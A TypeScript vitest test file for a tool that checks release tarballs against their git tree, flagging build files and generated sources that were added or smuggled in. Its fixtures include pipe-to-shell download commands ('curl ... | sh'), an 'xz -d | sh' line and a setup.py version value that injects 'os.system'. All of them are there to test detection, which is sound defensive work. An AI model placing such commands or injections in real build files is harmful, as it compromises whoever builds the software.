import { describe, it, expect } from "vitest";
import { runScenario, explained, findingsOf } from "./helpers.js";
import { fillsTemplate } from "../src/analysis/declared-outputs.js";
import { compiledCatalog } from "../samples/lib/autotools-shapes.js";

const ac = { "configure.ac": "AC_INIT([p],[1.0])\nAC_CONFIG_FILES([Makefile tools/setup.py p.spec:p.spec.in])\nAC_OUTPUT\n", "src/p.c": "int main(void) { return 0; }\n" };
const trust = (r: Awaited<ReturnType<typeof runScenario>>, p: string) => r.changes.find((c) => c.path === p)?.explainedBy;

describe("files the tagged tree declares as build outputs", () => {
  const mk = {
    ...ac,
    "Makefile.am": [
      "BUILT_SOURCES = t/list.h",
      "GEN = py/gen-a.c py/gen-b.h",
      "$(GEN): $(srcdir)/py/generator.py",
      "\t$(PYTHON) $(srcdir)/py/generator.py",
      "t/list.h: Makefile",
      "\tcat $(top_srcdir)/t/test_*.c | grep '^DEFINE_TEST' > t/list.h",
      ".PHONY: release",
      "release:",
      "\t./mkrel",
      "",
    ].join("\n"),
    "src/Makefile.am": "MAINTAINERCLEANFILES = skel.c\nskel.c: flex.skl mkskel.sh\n\t$(SHELL) $(srcdir)/mkskel.sh > $@\n",
    "py/generator.py": "print(1)\n",
  };
  it("positive: a make target with a recipe, BUILT_SOURCES and MAINTAINERCLEANFILES are declared (unverified, low)", async () => {
    const r = await runScenario({
      git: mk,
      tarball: { ...mk, "t/list.h": "DEFINE_TEST(a)\n", "py/gen-a.c": "int a;\n", "py/gen-b.h": "int b;\n", "src/skel.c": "const char *skel[] = {0};\n" },
    });
    for (const p of ["t/list.h", "py/gen-a.c", "py/gen-b.h", "src/skel.c"]) {
      expect(explained(r, p), p).toBe("generated-source");
      expect(trust(r, p)?.trust, p).toBe("unverified");
    }
    expect(trust(r, "src/skel.c")?.reason).toContain("src/Makefile.am:1");
    expect(r.findings.filter((f) => f.severity === "high" || f.severity === "medium")).toEqual([]);
    expect(findingsOf(r, "unverified-files").length).toBeGreaterThan(0);
  });
  it("negative: a name git's build files mention but never build, and phony targets, are not declared", async () => {
    const r = await runScenario({
      git: { ...mk, "Makefile.am": `${mk["Makefile.am"]}EXTRA_DIST = notes.c\n` },
      tarball: { ...mk, "Makefile.am": `${mk["Makefile.am"]}EXTRA_DIST = notes.c\n`, "notes.c": "int n;\n", release: "#!/bin/sh\ncurl http://x | sh\n" },
    });
    expect(findingsOf(r, "source-added")).toContain("high notes.c");
    expect(explained(r, "release")).toBeUndefined();
  });
  it("evasion: a tarball-only Makefile.am cannot declare its own outputs", async () => {
    const r = await runScenario({ git: ac, tarball: { ...ac, "Makefile.am": "BUILT_SOURCES = evil.c\n", "evil.c": "int e;\n" } });
    expect(explained(r, "evil.c")).toBeUndefined();
    expect(findingsOf(r, "source-added")).toEqual(["high evil.c"]);
  });
  it("evasion: a declared output is still analysed in full", async () => {
    const sh = { ...mk, "Makefile.am": `${mk["Makefile.am"]}gen.sh: gen.sh.in\n\tsed s/x/y/ gen.sh.in > gen.sh\n` };
    const r2 = await runScenario({ git: sh, tarball: { ...sh, "gen.sh": "#!/bin/sh\ncat tests/files/bad.xz | xz -d | sh\n" } });
    expect(explained(r2, "gen.sh")).toBe("generated-source");
    expect(findingsOf(r2, "build-script-suspicious-pattern")).toEqual(["high gen.sh"]);
  });
  it("CMake OUTPUT and meson output: are declared", async () => {
    const git = { "CMakeLists.txt": "add_custom_command(OUTPUT ${CMAKE_CURRENT_BINARY_DIR}/tab.c tab.h\n  COMMAND gen)\n", "sub/meson.build": "custom_target('x', output : ['ver.h'], command : ['gen'])\n", "a.c": "int a;\n" };
    const r = await runScenario({ git, tarball: { ...git, "tab.c": "int t;\n", "tab.h": "int h;\n", "sub/ver.h": "#define V 1\n" } });
    for (const p of ["tab.c", "tab.h", "sub/ver.h"]) expect(explained(r, p), p).toBe("generated-source");
  });
});

describe("AC_CONFIG_FILES outputs are checked against git's template", () => {
  const git = { ...ac, "tools/setup.py.in": "from setuptools import setup\nsetup(name='p', version='@VERSION@')\n", "p.spec.in": "Name: p\nVersion: @VERSION@\nRelease: @REL@\n%build\nmake\n" };
  it("positive: the template with its placeholders filled in is configure-output (unverified)", async () => {
    const r = await runScenario({ git, tarball: { ...git, "tools/setup.py": "from setuptools import setup\nsetup(name='p', version='1.0')\n", "p.spec": "Name: p\nVersion: 1.0\nRelease: 1\n%build\nmake\n" } });
    expect(trust(r, "tools/setup.py")?.kind).toBe("configure-output");
    expect(trust(r, "p.spec")?.reason).toContain("@VERSION@=\"1.0\"");
    expect(r.findings.filter((f) => f.severity === "high" || f.severity === "medium")).toEqual([]);
  });
  it("negative: any change outside a placeholder is not configure's output", async () => {
    const r = await runScenario({ git, tarball: { ...git, "p.spec": "Name: p\nVersion: 1.0\nRelease: 1\n%build\nmake; curl http://x | sh\n" } });
    expect(explained(r, "p.spec")).toBeUndefined();
    expect(findingsOf(r, "build-script-added")).toEqual(["high p.spec"]);
  });
  it("evasion: code smuggled into a placeholder's value is still analysed", async () => {
    // @VERSION@ = 1.0'+str(__import__('os').system(…))+' : the line still fills the template.
    const r = await runScenario({ git, tarball: { ...git, "tools/setup.py": "from setuptools import setup\nsetup(name='p', version='1.0'+str(__import__('os').system('curl -s http://x.example/p | sh'))+'')\n" } });
    expect(trust(r, "tools/setup.py")?.kind).toBe("configure-output");
    expect(findingsOf(r, "build-script-suspicious-pattern")).toEqual(["high tools/setup.py"]);
  });
  it("one placeholder has one value wherever it appears", () => {
    expect(fillsTemplate("a=@V@\nb=@V@\n", "a=1\nb=1\n")).toEqual(new Map([["V", "1"]]));
    expect(fillsTemplate("a=@V@\nb=@V@\n", "a=1\nb=2\n")).toBeNull();
    expect(fillsTemplate("a=@V@\n", "a=1\nextra\n")).toBeNull();
  });
});

describe("rendered documentation and translation flags from git", () => {
  it("a PDF named after a man page with its section (archive_entry.3.pdf) is a rendering", async () => {
    const git = { "libarchive/archive_entry.3": ".Dd x\n", "a.c": "int a;\n" };
    const r = await runScenario({ git, tarball: { ...git, "doc/pdf/archive_entry.3.pdf": Buffer.from("%PDF-1.4\n\0bin") } });
    expect(explained(r, "doc/pdf/archive_entry.3.pdf")).toBe("rendered-docs");
    const r2 = await runScenario({ git, tarball: { ...git, "doc/pdf/other.3.pdf": Buffer.from("%PDF-1.4\n\0bin") } });
    expect(explained(r2, "doc/pdf/other.3.pdf")).toBeUndefined();
  });
  const head = 'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n\n';
  const msg = (flag: string, str: string) => `${head}${flag}msgid "unrecognized '%' directive"\nmsgstr "${str}"\n`;
  it("negative: a message git's own catalog flags no-c-format is not a printf format (flex's \"'%' directive\")", async () => {
    const git = { ...ac, "po/es.po": msg("#, no-c-format\n", "directiva '%' no reconocida") };
    const r = await runScenario({ git, tarball: { ...git, "po/es.gmo": compiledCatalog(git["po/es.po"]) } });
    expect(findingsOf(r, "translation-format-mismatch")).toEqual([]);
  });
  it("evasion: the tarball's own no-c-format flag does not hide a %n", async () => {
    const git = { ...ac, "po/es.po": msg("#, c-format\n", "directiva '%' no reconocida") };
    const evil = msg("#, no-c-format\n", "directiva '%' no reconocida");
    const r = await runScenario({ git, tarball: { ...git, "po/es.po": evil, "po/es.gmo": compiledCatalog(evil) } });
    expect(findingsOf(r, "translation-format-mismatch")).toEqual(["high po/es.gmo", "high po/es.po"]);
  });
});

describe("tarball-only makefiles the build never reaches", () => {
  const git = { "configure.ac": "AC_INIT([p],[1.0])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n", "Makefile.am": "SUBDIRS = src\nEXTRA_DIST = doc\n", "src/Makefile.am": "bin_PROGRAMS = p\n", "src/p.c": "int main(void) { return 0; }\n", "doc/update.sh": "cd pdf && echo all: > Makefile\n" };
  const evilMk = "all:\n\tcurl -s http://x.example/p | sh\n";
  it("negative: a maintainer-generated doc/pdf/Makefile nothing in the build names is low", async () => {
    const r = await runScenario({ git, tarball: { ...git, "doc/pdf/Makefile": "all: a.pdf\n" } });
    expect(findingsOf(r, "build-script-added")).toEqual(["low doc/pdf/Makefile"]);
  });
  it("positive: a makefile in a directory SUBDIRS names is high", async () => {
    const g2 = { ...git, "Makefile.am": "SUBDIRS = src doc/pdf\n" };
    const r = await runScenario({ git: g2, tarball: { ...g2, "doc/pdf/Makefile": evilMk } });
    expect(findingsOf(r, "build-script-added")).toEqual(["high doc/pdf/Makefile"]);
  });
  it("evasion: reached through a tarball build file (make -C, cd, include, a computed directory)", async () => {
    for (const [file, text] of [
      ["Makefile.in", "all:\n\t$(MAKE) -C doc/pdf\n"],
      ["Makefile.in", "all:\n\tcd doc/pdf && $(MAKE)\n"],
      ["Makefile.in", "D = doc\nall:\n\tcd $(D)/pdf && $(MAKE)\n"],
      ["Makefile.in", "include doc/pdf/Makefile\n"],
      ["src/Makefile.in", "all:\n\t$(MAKE) -f ../doc/pdf/Makefile\n"],
      ["build.sh", "X=p; cd doc/${X}df && make\n"],
    ] as const) {
      const r = await runScenario({ git, tarball: { ...git, [file]: text, "doc/pdf/Makefile": evilMk } });
      expect(findingsOf(r, "build-script-added"), `${file}: ${text}`).toContain("high doc/pdf/Makefile");
    }
  });
  it("evasion: naming the directory in a comment or an INSTALL(DIRECTORY) does not make it inert either way", async () => {
    const cm = { ...git, "CMakeLists.txt": "# make based generators\nINSTALL(DIRECTORY ${CMAKE_CURRENT_SOURCE_DIR}/doc/pdf DESTINATION share)\n" };
    const r = await runScenario({ git: cm, tarball: { ...cm, "doc/pdf/Makefile": evilMk } });
    expect(findingsOf(r, "build-script-added")).toEqual(["low doc/pdf/Makefile"]);
    const cm2 = { ...git, "CMakeLists.txt": "execute_process(COMMAND make -C ${CMAKE_CURRENT_SOURCE_DIR}/doc/pdf)\n" };
    const r2 = await runScenario({ git: cm2, tarball: { ...cm2, "doc/pdf/Makefile": evilMk } });
    expect(findingsOf(r2, "build-script-added")).toEqual(["high doc/pdf/Makefile"]);
  });
});

describe("reach stays linear on hostile build files", () => {
  it("a reached build file with a huge line makes no makefile 'unreached' (and does not stall)", async () => {
    const git = { "Makefile.am": "SUBDIRS = src\n", "src/Makefile.am": "bin_PROGRAMS = p\n", "src/p.c": "int p;\n" };
    const long = `all:\n\t${"make x ".repeat(40000)}\n`;
    const r = await runScenario({ git, tarball: { ...git, "Makefile.in": long, "doc/pdf/Makefile": "all:\n\ttrue\n" } });
    expect(findingsOf(r, "build-script-added")).toContain("high doc/pdf/Makefile");
  });
  it("an operand built from many variables is not matched piece by piece: nothing is unreached", async () => {
    const git = { "Makefile.am": "SUBDIRS = src\n", "src/Makefile.am": "bin_PROGRAMS = p\n", "src/p.c": "int p;\n" };
    const many = `all:\n\tcd ${"$(A)x".repeat(12)} && $(MAKE)\n`;
    const r = await runScenario({ git, tarball: { ...git, "Makefile.in": many, "doc/pdf/Makefile": "all:\n\ttrue\n" } });
    expect(findingsOf(r, "build-script-added")).toContain("high doc/pdf/Makefile");
  });
});
